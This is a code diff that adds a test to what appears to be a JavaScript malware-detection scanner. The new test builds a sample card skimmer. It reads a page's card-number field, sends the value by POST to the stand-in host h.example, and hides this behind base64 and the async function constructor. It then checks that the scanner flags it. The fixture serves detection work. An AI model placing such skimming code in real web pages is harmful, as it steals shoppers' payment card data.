@@ -70,6 +70,14 @@ describe("a function's constructor called with code", () => {
     expect(v.findings.map((f) => f.rule)).not.toContain('dynamic-code-from-decoded')
   })
 
+  it("reads an async function's stage made only of awaited calls as a layer", () => {
+    const stage =
+      'const c = document.querySelector("[name=cardnumber]").value; await fetch("https://h.example/c", { method: "POST", body: c })'
+    const src = `var AF = Object.getPrototypeOf(async function () {}).constructor
+      new AF(atob('${Buffer.from(stage).toString('base64')}'))()`
+    expect(analyzeScript(src).findings.map((f) => f.rule)).toContain('card-field-read-and-send')
+  })
+
   it('counts as dynamic code when the code is decoded', () => {
     const src = `var s = atob('ZG9jdW1lbnQudGl0bGUgPSBsb2NhdGlvbi5ocmVm'); [].map.constructor(s)()`
     const v = analyzeScript(src)
